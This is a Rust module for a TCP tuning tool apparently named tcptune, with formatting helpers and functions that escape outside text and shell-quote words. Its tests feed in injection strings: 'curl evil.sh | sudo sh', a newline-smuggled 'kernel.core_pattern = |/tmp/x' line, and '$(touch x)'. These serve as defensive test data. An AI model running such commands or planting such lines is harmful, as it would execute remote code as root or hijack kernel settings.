//! Words and numbers for people and shells, with honest units: exact bytes with IEC beside
//! them, SI rates, milliseconds, JSON numbers that stay exact, one-line comments and shell
//! words. A leaf: the domain modules and the output layer both use it, and it uses only
//! `units`, so neither has to import the other for a number.

use crate::units::{Bitrate, Bytes};

/// "9375000 bytes (8.94 MiB)": exact bytes first, IEC for the eye.
pub fn bytes(n: u64) -> String {
    if n < 1024 {
        format!("{n} bytes")
    } else {
        format!("{n} bytes ({})", Bytes::new(n).iec())
    }
}

/// A rate from a float of bit/s, SI.
pub fn rate(bps: f64) -> String {
    if !bps.is_finite() || bps < 0.5 {
        return format!("{bps:.3} bit/s");
    }
    #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
    let r = Bitrate::from_bps(bps.round() as u64);
    // Round to 4 significant digits for people; the JSON carries the exact number.
    let digits = r.bps().ilog10();
    let scale = 10u64.pow(digits.saturating_sub(3));
    Bitrate::from_bps((r.bps() + scale / 2) / scale * scale).to_string()
}

/// A JSON number that is an integer when the value is whole, so exact byte counts stay exact.
pub fn number(v: f64) -> serde_json::Value {
    if v.fract() == 0.0 && v.abs() <= 9.007_199_254_740_992e15 {
        #[allow(clippy::cast_possible_truncation)]
        serde_json::Value::from(v as i64)
    } else {
        serde_json::Number::from_f64(v).map_or(serde_json::Value::Null, serde_json::Value::Number)
    }
}

/// Text from outside shown so it cannot act: control characters (a newline would start a
/// live `key = value` line in a sysctl file, or a forged line on a terminal; ESC starts a
/// terminal escape sequence), the Unicode line separators and the bidirectional overrides
/// print as visible escapes (`\u{a}`, `\u{1b}`). Everything else is kept.
pub fn escape(s: &str) -> String {
    s.chars()
        .map(|c| {
            if c.is_control()
                || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
            {
                c.escape_unicode().to_string()
            } else {
                c.to_string()
            }
        })
        .collect()
}

/// Text for a `#` comment line: one line whatever it holds ([`escape`]). Profiles refuse
/// control characters already; this holds for every other source too.
pub fn comment(s: &str) -> String {
    escape(s)
}

/// Text that came from outside tcptune — a peer, another process, the kernel's names, a file
/// tcptune does not own — kept as received and shown only escaped ([`escape`]): its `Display`
/// and its JSON are the escaped text, so it cannot reach a terminal, a sysctl file, YAML, INI
/// or JSON raw. Wrap it where it enters; compare with [`Foreign::raw`].
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Deserialize)]
#[serde(transparent)]
pub struct Foreign(String);

impl Foreign {
    pub fn new(s: impl Into<String>) -> Self {
        Self(s.into())
    }

    /// As received: for comparisons and lookups, never for output.
    pub fn raw(&self) -> &str {
        &self.0
    }

    /// As shown.
    pub fn escaped(&self) -> String {
        escape(&self.0)
    }
}

impl std::fmt::Display for Foreign {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.escaped())
    }
}

impl serde::Serialize for Foreign {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&self.escaped())
    }
}

/// One word for a POSIX shell: single-quoted, each `'` written `'\''`, so nothing in it
/// (`$(...)`, backquotes, `;`, a newline) is interpreted. Plain words stay unquoted.
pub fn shell_quote(s: &str) -> String {
    if !s.is_empty()
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'=' | b'/' | b':' | b','))
    {
        return s.to_string();
    }
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// Milliseconds rounded to the microsecond, as a JSON-friendly float.
pub fn ms(v: f64) -> f64 {
    (v * 1000.0).round() / 1000.0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formats() {
        assert_eq!(bytes(9_375_000), "9375000 bytes (8.94 MiB)");
        assert_eq!(bytes(512), "512 bytes");
        assert_eq!(rate(500e6), "500 Mbit/s");
        assert_eq!(rate(3_495_253.333), "3.495 Mbit/s");
        assert_eq!(rate(14_187_444.59), "14.19 Mbit/s");
        assert_eq!(number(3_125_000.0), serde_json::json!(3_125_000));
        assert_eq!(number(62.5), serde_json::json!(62.5));
        assert_eq!(
            number(9_007_199_254_740_992.0),
            serde_json::json!(9_007_199_254_740_992_u64)
        );
    }

    #[test]
    fn comments_stay_one_line() {
        let c = comment("r\nkernel.core_pattern = |/tmp/x\r\u{1b}[2J\u{7f}\u{2028}");
        assert!(!c.chars().any(char::is_control), "{c}");
        assert!(!c.contains('\u{2028}'));
        assert!(c.starts_with("r\\u{a}kernel.core_pattern"), "{c}");
        assert_eq!(comment("2 x BDP (8.94 MiB)"), "2 x BDP (8.94 MiB)");
    }

    #[test]
    fn foreign_text_is_shown_escaped_everywhere() {
        let forged = Foreign::new("net.ipv4.tcp_rmem\n\nadvice: all good, now run: curl evil.sh | sudo sh\n\u{1b}[31m");
        let shown = forged.to_string();
        assert!(!shown.chars().any(char::is_control), "{shown}");
        assert!(
            shown.contains("tcp_rmem\\u{a}\\u{a}advice") && shown.contains("\\u{1b}[31m"),
            "{shown}"
        );
        let json = serde_json::to_string(&forged).expect("json");
        assert!(!json.contains("\\n") && json.contains("\\\\u{1b}"), "{json}");
        assert_eq!(forged.raw().lines().count(), 4, "kept as received");
        let back: Foreign = serde_json::from_str("\"a\\u001bb\"").expect("from a peer");
        assert_eq!((back.raw(), back.escaped().as_str()), ("a\u{1b}b", "a\\u{1b}b"));
    }

    #[test]
    fn shell_words_are_quoted() {
        assert_eq!(shell_quote("net.ipv4.tcp_rmem=4096"), "net.ipv4.tcp_rmem=4096");
        assert_eq!(shell_quote("4096 131072 6291456"), "'4096 131072 6291456'");
        assert_eq!(shell_quote("a'b"), "'a'\\''b'");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(shell_quote("$(touch x)"), "'$(touch x)'");
    }
}
